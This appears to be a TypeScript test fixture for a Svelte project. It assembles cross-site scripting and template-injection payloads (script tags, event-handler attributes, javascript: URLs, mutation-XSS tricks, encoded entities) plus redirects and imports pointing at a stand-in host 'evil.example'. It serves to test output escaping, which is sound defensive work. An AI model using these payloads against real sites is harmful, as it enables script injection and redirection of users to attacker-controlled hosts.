/** Texts that run script or change the page if they are inserted as markup instead of as text. */

const canary = 'alert(15)';

/** Each ends one context of HTML in which a text can be, so that markup can follow. */
const contextEnds = [
	'',
	'">',
	"'>",
	'-->',
	'</blockquote>',
	'</title></style></script>',
	']]>',
	'</a></li></ul>',
	'\\">',
	'`>'
];

const markup = [
	`<script>${canary}</script>`,
	`<img src=x onerror=${canary}>`,
	`<svg/onload=${canary}>`,
	`<details open ontoggle=${canary}>`,
	`<a href="javascript:${canary}">x</a>`,
	`<iframe srcdoc="&lt;script&gt;${canary}&lt;/script&gt;"></iframe>`,
	`<style>@import "https://evil.example/x";</style>`,
	`<math><mtext><style><img title="</style><img src=x onerror=${canary}>"></math>`,
	`<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
	`<template><script>${canary}</script></template>`,
	`<form action="https://evil.example/"><button formaction="javascript:${canary}">x`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<object data="data:text/html,<script>${canary}</script>"></object>`,
	`<input autofocus onfocus=${canary}>`,
	`<ScRiPt\n>${canary}</sCrIpT\n>`,
	`<video><source onerror=${canary}></video>`
];

const attributes = ['" ', "' ", '` ', ' '].flatMap((end) =>
	[
		`onmouseover=${canary} x=`,
		`autofocus onfocus=${canary} `,
		`style="background:url(https://evil.example/)" `
	].map((attribute) => `x${end}${attribute}`)
);

/** Syntax of Svelte and of other template languages, and comments. */
const templates = [
	...[
		'{@html "<b>x</b>"}',
		'{#if true}x{/if}',
		`{${canary}}`,
		'<slot />',
		'<svelte:head><b>x</b></svelte:head>'
	],
	...[
		'{{constructor.constructor("x")()}}',
		'${x}',
		'<%= x %>',
		'#{x}',
		'[[x]]',
		'{% x %}',
		'%sveltekit.body%'
	],
	...[
		'<!--[-->',
		'<!--]-->',
		'<!--[0-->',
		'<!---->',
		'<!-- x',
		'--!>',
		'<![CDATA[x]]>',
		'<?xml x?>',
		'<!doctype x>'
	]
];

const entities = [
	...[
		'&lt;script&gt;',
		'&#60;b&#62;',
		'&#x3c;b&#x3e;',
		'&amp;lt;b&amp;gt;',
		'&quot;',
		'&apos;',
		'&',
		'&nbsp',
		'&#0;'
	],
	...[
		'\\u003cscript\\u003e',
		'\\x3cb\\x3e',
		'%3Cscript%3E',
		'%22%3E',
		'\u003c\u200b/p>',
		'＜script＞',
		'<\u0338b>'
	]
];

const words = [
	...[
		'javascript:alert(15)',
		'data:text/html,x',
		'https://evil.example/',
		'//evil.example',
		'url(x)',
		'</',
		'<',
		'>'
	],
	...[
		'"',
		"'",
		'`',
		'\\',
		'$&',
		'$1',
		'__proto__',
		'constructor',
		'null',
		'undefined',
		'0',
		'NaN',
		'\u202ex',
		'x\u2028y'
	]
];

export const payloads: string[] = [
	...new Set([
		...contextEnds.flatMap((end) => markup.map((element) => end + element)),
		...attributes,
		...templates,
		...entities,
		...words
	])
];
